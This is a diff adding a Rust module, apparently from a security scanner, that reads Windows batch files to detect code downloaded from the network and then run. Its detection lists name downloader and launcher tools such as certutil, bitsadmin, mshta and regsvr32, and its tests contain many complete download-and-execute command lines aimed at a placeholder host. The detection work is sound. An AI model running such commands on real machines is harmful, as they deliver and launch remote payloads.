@@ -1,0 +1,394 @@
+//! What batch files do, line by line: what they fetch, unpack, and start.
+
+use std::collections::HashMap;
+
+use savoir_skill::Span;
+
+use super::{
+    act::{Act, Acts, Code, Taint},
+    host,
+};
+
+/// Marks of a text that is written for the command prompt of Windows.
+const MARKS: [&str; 14] = [
+    "@echo off",
+    "%temp%",
+    "%tmp%",
+    "%appdata%",
+    "%localappdata%",
+    "%userprofile%",
+    "%programdata%",
+    "%public%",
+    "%~dp0",
+    "certutil",
+    "bitsadmin",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+];
+
+/// Programs that start what they are given.
+const STARTERS: [&str; 26] = [
+    "start",
+    "call",
+    "cmd",
+    "rundll32",
+    "regsvr32",
+    "wscript",
+    "cscript",
+    "mshta",
+    "msiexec",
+    "powershell",
+    "pwsh",
+    "python",
+    "python3",
+    "py",
+    "pythonw",
+    "node",
+    "java",
+    "javaw",
+    "explorer",
+    "schtasks",
+    "wmic",
+    "forfiles",
+    "installutil",
+    "msbuild",
+    "regasm",
+    "conhost",
+];
+
+/// Those that fetch by themselves what they start.
+const DIRECT: [&str; 4] = ["mshta", "msiexec", "regsvr32", "rundll32"];
+
+/// Longest value of a variable and longest line with the values put in.
+const LONGEST: usize = 8 * 1024;
+
+/// Most commands that start each other on one line.
+const DEEPEST: usize = 8;
+
+/// Whether a text is a batch file, or commands for the same prompt.
+pub(super) fn is_batch(path: &str, text: &str) -> bool {
+    if matches!(super::gather::ending(path).as_str(), "bat" | "cmd") {
+        return true;
+    }
+    let lower = text.to_ascii_lowercase();
+    MARKS.iter().any(|mark| lower.contains(mark))
+}
+
+/// Reads a text as a batch file.
+pub(super) fn read(text: &str, acts: &mut Acts) {
+    let mut reader = Reader::default();
+    let mut at = 0;
+    let mut joined = String::new();
+    let mut start = 0;
+    for line in text.split_inclusive('\n') {
+        if joined.is_empty() {
+            start = at;
+        }
+        at += line.len();
+        let line = line.trim_end();
+        // `^` at the end of a line goes on in the next.
+        if let Some(part) = line.strip_suffix('^').filter(|_| joined.len() < LONGEST) {
+            joined.push_str(part);
+            continue;
+        }
+        let span = Span::new(start, start.max(at - 1));
+        if joined.is_empty() {
+            reader.line(line, span, acts);
+        } else {
+            joined.push_str(line);
+            reader.line(&std::mem::take(&mut joined), span, acts);
+        }
+    }
+    reader.line(&joined, Span::new(start, at), acts);
+}
+
+#[derive(Default)]
+struct Reader {
+    variables: HashMap<String, String>,
+    /// Where files come from, by path in small letters.
+    files: HashMap<String, String>,
+}
+
+impl Reader {
+    fn line(&mut self, line: &str, span: Span, acts: &mut Acts) {
+        let trimmed = line.trim_start_matches([' ', '\t', '@']);
+        let lower = trimmed.get(..4).unwrap_or(trimmed).to_ascii_lowercase();
+        if lower.starts_with("rem ") || lower.starts_with("::") {
+            return;
+        }
+        let line = self.filled(trimmed, acts);
+        for command in commands(&line) {
+            self.command(&words(command), 0, span, acts);
+        }
+    }
+
+    /// A line with the values of variables put in: `%NAME%`, `!NAME!`.
+    fn filled(&self, line: &str, acts: &mut Acts) -> String {
+        let mut filled = String::new();
+        let mut rest = line;
+        while let Some(at) = rest.find(['%', '!']) {
+            if filled.len() > LONGEST {
+                acts.is_cut = true;
+                break;
+            }
+            let mark = &rest[at..=at];
+            filled.push_str(&rest[..at]);
+            let behind = &rest[at + 1..];
+            // `%NAME:~1,3%` is a part of it; which does not matter here.
+            let end = behind.find(mark).filter(|end| *end < 64);
+            let known = end.and_then(|end| self.variables.get(&behind[..end].to_ascii_lowercase()));
+            if let (Some(end), Some(value)) = (end, known) {
+                filled.push_str(value);
+                rest = &behind[end + 1..];
+            } else {
+                filled.push_str(mark);
+                rest = behind;
+            }
+        }
+        filled.push_str(rest);
+        filled
+    }
+
+    fn command(&mut self, words: &[&str], depth: usize, span: Span, acts: &mut Acts) {
+        if depth > DEEPEST {
+            acts.is_cut = true;
+            return;
+        }
+        let Some((first, rest)) = words.split_first() else { return };
+        let name = first.trim_start_matches(['@', '(']).rsplit(['/', '\\']).next();
+        let name = name.unwrap_or(first).to_ascii_lowercase();
+        let name = name.strip_suffix(".exe").unwrap_or(&name);
+        match name {
+            // What stands behind them is a command as well.
+            "if" | "else" | "do" | "for" | "in" | "not" | "exist" => {
+                let next = rest.iter().position(|word| is_command(word));
+                if let Some(next) = next {
+                    self.command(&rest[next..], depth + 1, span, acts);
+                }
+                return;
+            }
+            "set" => return self.set(rest),
+            _ => {}
+        }
+        let url = || {
+            rest.iter().find_map(|word| host::urls(word).first().map(|(_, url)| (*url).to_owned()))
+        };
+        let lower: Vec<String> = rest.iter().map(|word| word.to_ascii_lowercase()).collect();
+        let has = |part: &str| lower.iter().any(|word| word.contains(part));
+        match name {
+            "certutil" if has("urlcache") || has("verifyctl") => {
+                self.fetched(url(), rest, span, acts);
+            }
+            "certutil" if has("-decode") || has("/decode") => self.copied(rest),
+            "bitsadmin" => self.fetched(url(), rest, span, acts),
+            "curl" | "wget" => {
+                let to = rest.windows(2).find(|pair| {
+                    pair[0].starts_with('-')
+                        && (pair[0].ends_with(['o', 'O']) || pair[0].starts_with("--output"))
+                });
+                let kept = url()
+                    .filter(|_| to.is_some() || has("-o") || name == "wget" || has("--remote"));
+                if let Some(from) = kept {
+                    let own = from.rsplit('/').next().unwrap_or_default().to_owned();
+                    self.files.insert(key(to.map_or(own.as_str(), |pair| pair[1])), from.clone());
+                    self.files.insert(key(&own), from);
+                }
+            }
+            "powershell" | "pwsh"
+                if has("outfile") || has("downloadfile") || has("bitstransfer") =>
+            {
+                if let Some(from) = url() {
+                    let parts = rest
+                        .iter()
+                        .flat_map(|word| word.split(['"', '\'', ' ', ',', '(', ')', ';']));
+                    for part in parts.filter(|part| is_file(part)) {
+                        self.files.insert(key(part), from.clone());
+                    }
+                }
+            }
+            "copy" | "move" | "ren" | "rename" | "xcopy" | "expand" | "tar" | "robocopy"
+            | "type" => {
+                self.copied(rest);
+            }
+            _ => {}
+        }
+        let from = self.files.get(&key(first)).cloned();
+        let given = || rest.iter().find_map(|word| self.known(word));
+        let starts = STARTERS.contains(&name);
+        let direct = url().filter(|_| DIRECT.contains(&name));
+        if let Some(from) = from.or_else(|| given().filter(|_| starts)).or(direct) {
+            acts.push(Act::Executes(Code::Fetched(from)), span);
+        }
+        if starts && rest.len() > 1 {
+            let next = rest.iter().position(|word| is_command(word) && !word.starts_with('/'));
+            if let Some(next) = next {
+                self.command(&rest[next..], depth + 1, span, acts);
+            }
+        }
+    }
+
+    /// Where a word comes from that names a file: `x.dll,Entry`, `/i:x.sct`, `-File x.ps1`.
+    fn known(&self, word: &str) -> Option<String> {
+        let plain = word.split(',').next().unwrap_or(word);
+        let named = plain.split_once(':').map_or(plain, |(_, file)| file);
+        [word, plain, named].iter().find_map(|word| self.files.get(&key(word)).cloned())
+    }
+
+    /// `set NAME=value`, `set "NAME=value"`
+    fn set(&mut self, rest: &[&str]) {
+        let text = rest.join(" ");
+        let Some((name, value)) = text.split_once('=') else { return };
+        if value.len() < LONGEST && !value.is_empty() {
+            self.variables.insert(name.trim().to_ascii_lowercase(), value.to_owned());
+        }
+    }
+
+    /// The file that a download goes to is the last word that is no option and no address.
+    fn fetched(&mut self, url: Option<String>, rest: &[&str], span: Span, acts: &mut Acts) {
+        let Some(from) = url else { return };
+        let file = rest
+            .iter()
+            .rev()
+            .find(|word| !word.contains("://") && !word.starts_with('-') && !word.starts_with('>'));
+        let own = from.rsplit('/').next().unwrap_or_default().to_owned();
+        self.files.insert(key(file.map_or(own.as_str(), |file| file)), from.clone());
+        let sends = Taint::default();
+        acts.push(Act::Network { to: from, sends, log_in: Vec::new() }, span);
+    }
+
+    /// What is made of a file that was fetched was fetched as well.
+    fn copied(&mut self, rest: &[&str]) {
+        let Some(from) = rest.iter().find_map(|word| self.known(word)) else { return };
+        if let Some(to) = rest.iter().rev().find(|word| !word.starts_with(['-', '/', '>'])) {
+            self.files.insert(key(to), from);
+        }
+    }
+}
+
+/// A path in the form in which files are remembered.
+fn key(path: &str) -> String {
+    let path =
+        path.trim_matches(['"', '\'', '(', ')', '@']).to_ascii_lowercase().replace('\\', "/");
+    path.trim_start_matches("./").trim_start_matches("%cd%/").to_owned()
+}
+
+/// Whether a word of a PowerShell command is the path of a file.
+fn is_file(word: &str) -> bool {
+    !word.contains("://")
+        && !word.starts_with('-')
+        && word.rsplit(['/', '\\']).next().is_some_and(|name| {
+            name.rsplit_once('.').is_some_and(|(stem, ending)| {
+                !stem.is_empty() && (1..5).contains(&ending.len()) && !ending.contains(' ')
+            })
+        })
+}
+
+/// Whether a word can be the name of a command.
+fn is_command(word: &str) -> bool {
+    let name = word.trim_start_matches(['@', '(']).rsplit(['/', '\\']).next().unwrap_or(word);
+    let name = name.to_ascii_lowercase();
+    let name = name.strip_suffix(".exe").unwrap_or(&name);
+    let others = ["certutil", "bitsadmin", "curl", "wget", "set", "copy", "move", "ren", "expand"];
+    STARTERS.contains(&name) || others.contains(&name)
+}
+
+/// The commands of a line: between `&`, `|` and brackets that stand in no quotes.
+fn commands(line: &str) -> Vec<&str> {
+    let mut found = Vec::new();
+    let (mut start, mut quoted) = (0, false);
+    for (at, byte) in line.bytes().enumerate() {
+        match byte {
+            b'"' => quoted = !quoted,
+            b'&' | b'|' | b'(' | b')' | b'\r' if !quoted => {
+                found.push(&line[start..at]);
+                start = at + 1;
+            }
+            _ => {}
+        }
+    }
+    found.push(&line[start..]);
+    found
+}
+
+/// The words of a command, without their quotes and without `^`.
+fn words(command: &str) -> Vec<&str> {
+    let mut found = Vec::new();
+    let (mut start, mut quoted) = (0, false);
+    for (at, byte) in command.bytes().enumerate() {
+        match byte {
+            b'"' => quoted = !quoted,
+            b' ' | b'\t' if !quoted => {
+                found.push(&command[start..at]);
+                start = at + 1;
+            }
+            _ => {}
+        }
+    }
+    found.push(&command[start..]);
+    let bare = found.into_iter().map(|word| match word.strip_prefix('"') {
+        Some(rest) => rest
+            .split_once('"')
+            .filter(|(_, behind)| behind.is_empty())
+            .map_or(rest, |(word, _)| word),
+        None => word,
+    });
+    bare.filter(|word| !word.is_empty() && !word.starts_with('>') && !word.starts_with("2>"))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn started(text: &str) -> bool {
+        let mut acts = Acts::default();
+        read(text, &mut acts);
+        acts.seen.iter().any(|seen| matches!(seen.act, Act::Executes(Code::Fetched(_))))
+    }
+
+    #[test]
+    fn what_is_fetched_and_started() {
+        for text in [
+            "certutil -urlcache -split -f http://a.example/x \"%TEMP%\\v.b64\" >nul\ncertutil -decode \"%TEMP%\\v.b64\" \"%TEMP%\\v.dll\" >nul\nstart \"\" /b rundll32 \"%TEMP%\\v.dll\",Go",
+            "certutil.exe -urlcache -f https://a.example/x.exe x.exe & x.exe",
+            "bitsadmin /transfer j /download /priority high https://a.example/x %TEMP%\\x.exe\n%TEMP%\\x.exe /s",
+            "set T=%TEMP%\\u.exe\ncurl.exe -sLo %T% https://a.example/u\nstart /b %t%",
+            "set \"U=https://a.example/u.msi\"\nmsiexec /quiet /i %U%",
+            "if not exist x.dll (\n  curl -o x.dll https://a.example/x\n)\nregsvr32 /s x.dll",
+            "regsvr32 /s /n /u /i:https://a.example/x.sct scrobj.dll",
+            "mshta https://a.example/x.hta",
+            "curl -O https://a.example/run.vbs && wscript //B run.vbs",
+            "powershell -c \"iwr https://a.example/x -OutFile $env:TEMP\\x.exe\" && cmd /c $env:TEMP\\x.exe",
+            "powershell Start-BitsTransfer -Source https://a.example/x -Destination s.bat & call s.bat",
+            "curl -o a.txt https://a.example/x\ncopy /y a.txt b.cmd\nb.cmd",
+            "curl ^\n -o a.py ^\n https://a.example/x\npython a.py",
+            "@curl -o a.exe https://a.example/x\nschtasks /create /tn x /tr a.exe",
+        ] {
+            assert!(started(text), "{text}");
+        }
+        for text in [
+            "curl -o data.json https://a.example/x\ntype data.json",
+            "rem mshta https://a.example/x.hta",
+            "certutil -hashfile a.exe SHA256\na.exe",
+            "start https://a.example/docs",
+            "python build.py --url https://a.example",
+            "msiexec /i local.msi",
+        ] {
+            assert!(!started(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn values_that_grow_are_cut() {
+        let mut text = format!("set A={}\n", "x".repeat(4000));
+        text.push_str("echo ");
+        text.push_str(&"%A%".repeat(20_000));
+        let mut acts = Acts::default();
+        read(&text, &mut acts);
+        assert!(acts.is_cut);
+        let mut acts = Acts::default();
+        read(&"start ".repeat(100_000), &mut acts);
+        assert!(acts.is_cut);
+    }
+}
